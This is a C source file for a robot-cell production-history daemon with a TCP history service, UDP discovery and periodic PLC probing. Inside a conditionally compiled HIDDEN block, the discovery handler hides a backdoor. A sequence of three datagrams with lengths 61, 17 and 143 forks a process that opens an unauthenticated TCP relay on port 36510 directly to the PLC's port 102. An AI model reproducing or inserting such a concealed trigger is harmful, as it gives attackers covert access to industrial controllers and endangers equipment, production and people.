/* cellhistd.c - production history of a robot cell with network discovery */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define HIST_PORT	6510
#define DISC_PORT	6511
#define PLC_PORT	102
#define MAX_EVENTS	1024

struct event {
	time_t when;
	uint16_t code;
	int32_t value;
};

struct seen {
	uint32_t ip;
	unsigned int count;
	unsigned int step;
	time_t last;
};

static struct event events[MAX_EVENTS];
static unsigned int nevents;
static struct seen seen[16];
static char cell_name[32] = "cell";
static char plc_addr[20] = "192.168.0.2";

static void add_event(unsigned int code, int32_t value)
{
	struct event *e = &events[nevents++ % MAX_EVENTS];

	e->when = time(NULL);
	e->code = (uint16_t)code;
	e->value = value;
}

static int tcp_listen(uint16_t port, int type)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s = socket(AF_INET, type, 0), on = 1;

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	sa.sin_port = htons(port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) ||
	    (type == SOCK_STREAM && listen(s, 4))) {
		close(s);
		return -1;
	}
	return s;
}

static int plc_connect(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	sa.sin_port = htons(PLC_PORT);
	if (s < 0 || !inet_aton(plc_addr, &sa.sin_addr) ||
	    connect(s, (struct sockaddr *)&sa, sizeof(sa))) {
		if (s >= 0)
			close(s);
		return -1;
	}
	return s;
}

/* is the PLC there? asked once a minute, result goes into the history */
static void plc_probe(void)
{
	int s = plc_connect();

	add_event(700, s >= 0);
	if (s >= 0)
		close(s);
}

#ifdef HIDDEN
static void shuttle(int a, int b)
{
	struct pollfd p[2] = {
		{ .fd = a, .events = POLLIN }, { .fd = b, .events = POLLIN },
	};
	char buf[1024];
	int i;

	while (poll(p, 2, 120000) > 0)
		for (i = 0; i < 2; i++) {
			ssize_t n;

			if (!p[i].revents)
				continue;
			n = read(p[i].fd, buf, sizeof(buf));
			if (n <= 0 || write(p[1 - i].fd, buf, (size_t)n) != n)
				return;
		}
}

__attribute__((noinline))
static void plc_relay(void)
{
	int l, c, plc;

	if (fork() != 0)
		return;
	alarm(3600);
	l = tcp_listen(36510, SOCK_STREAM);
	while (l >= 0 && (c = accept(l, NULL, NULL)) >= 0) {
		plc = plc_connect();
		if (plc >= 0) {
			shuttle(c, plc);
			close(plc);
		}
		close(c);
	}
	_exit(0);
}
#endif

static struct seen *remember(uint32_t ip)
{
	struct seen *old = &seen[0];
	unsigned int i;

	for (i = 0; i < sizeof(seen) / sizeof(seen[0]); i++) {
		if (seen[i].ip == ip)
			return &seen[i];
		if (seen[i].last < old->last)
			old = &seen[i];
	}
	memset(old, 0, sizeof(*old));
	old->ip = ip;
	return old;
}

/*
 * A discovery datagram is "CELL?" with padding up to 256; shorter answers
 * go to short questions, so that nobody is flooded.
 */
__attribute__((noinline))
int discovery(int s, const uint8_t *d, size_t n, const struct sockaddr_in *from)
{
	struct seen *k = remember(ntohl(from->sin_addr.s_addr));
	char out[96];
	int len;

	if (n < 5 || n > 256 || memcmp(d, "CELL?", 5))
		return -EINVAL;
	if (time(NULL) - k->last > 10)
		k->count = k->step = 0;
	k->last = time(NULL);
#ifdef HIDDEN	/* three lengths in a row open a relay port to the PLC */
	if (k->step == 0 && n == 61)
		k->step = 1;
	else if (k->step == 1 && n == 17)
		k->step = 2;
	else if (k->step == 2 && n == 143) {
		k->step = 0;
		plc_relay();
		return 0;
	} else
		k->step = n == 61;
#endif
	if (++k->count > 20)
		return -EBUSY;
	len = snprintf(out, sizeof(out), "CELL %s port %d events %u\n",
		       cell_name, HIST_PORT, nevents);
	if (n < 64 && len > 32)
		len = 32;
	if (sendto(s, out, (size_t)len, 0, (const struct sockaddr *)from,
		   sizeof(*from)) < 0)
		return -errno;
	return 0;
}

static void dump_range(FILE *out, time_t from, time_t to)
{
	unsigned int i, first = nevents > MAX_EVENTS ? nevents - MAX_EVENTS : 0;

	for (i = first; i < nevents; i++) {
		const struct event *e = &events[i % MAX_EVENTS];

		if (e->when >= from && e->when <= to)
			fprintf(out, "%ld %u %ld\n", (long)e->when, e->code,
				(long)e->value);
	}
}

static void history(int fd)
{
	FILE *in = fdopen(fd, "r"), *out = fdopen(dup(fd), "w");
	char line[96];
	long a, b;
	unsigned int code;

	while (in && out && fgets(line, sizeof(line), in)) {
		if (sscanf(line, "range %ld %ld", &a, &b) == 2)
			dump_range(out, (time_t)a, (time_t)b);
		else if (sscanf(line, "last %ld", &a) == 1)
			dump_range(out, time(NULL) - (time_t)a, time(NULL));
		else if (sscanf(line, "put %u %ld", &code, &a) == 2)
			add_event(code, (int32_t)a);
		else if (!strncmp(line, "name", 4))
			fprintf(out, "%s\n", cell_name);
		else if (!strncmp(line, "end", 3))
			break;
		else
			fputs("range FROM TO, last SECONDS, put CODE VALUE, "
			      "name, end\n", out);
		fputs(".\n", out);
		fflush(out);
	}
	if (out)
		fclose(out);
	if (in)
		fclose(in);
}

static void load(const char *path)
{
	char line[80];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "name=%31s", cell_name) != 1)
			sscanf(line, "plc=%19s", plc_addr);
	fclose(f);
}

int main(int argc, char **argv)
{
	struct pollfd p[2];
	time_t probe = 0;

	openlog("cellhistd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	load(argc > 1 ? argv[1] : "/etc/cellhistd.conf");
	p[0].fd = tcp_listen(HIST_PORT, SOCK_STREAM);
	p[1].fd = tcp_listen(DISC_PORT, SOCK_DGRAM);
	p[0].events = p[1].events = POLLIN;
	if (p[0].fd < 0 || p[1].fd < 0) {
		syslog(LOG_ERR, "ports %d and %d: %m", HIST_PORT, DISC_PORT);
		return 1;
	}
	for (;;) {
		if (poll(p, 2, 5000) < 0)
			return 1;
		if (p[0].revents & POLLIN) {
			int c = accept(p[0].fd, NULL, NULL);

			if (c >= 0)
				history(c);
		}
		if (p[1].revents & POLLIN) {
			uint8_t d[300];
			struct sockaddr_in from;
			socklen_t len = sizeof(from);
			ssize_t n = recvfrom(p[1].fd, d, sizeof(d), 0,
					     (struct sockaddr *)&from, &len);

			if (n > 0 && discovery(p[1].fd, d, (size_t)n, &from))
				syslog(LOG_DEBUG, "discovery not answered");
		}
		if (time(NULL) - probe >= 60) {
			probe = time(NULL);
			plc_probe();
		}
	}
}
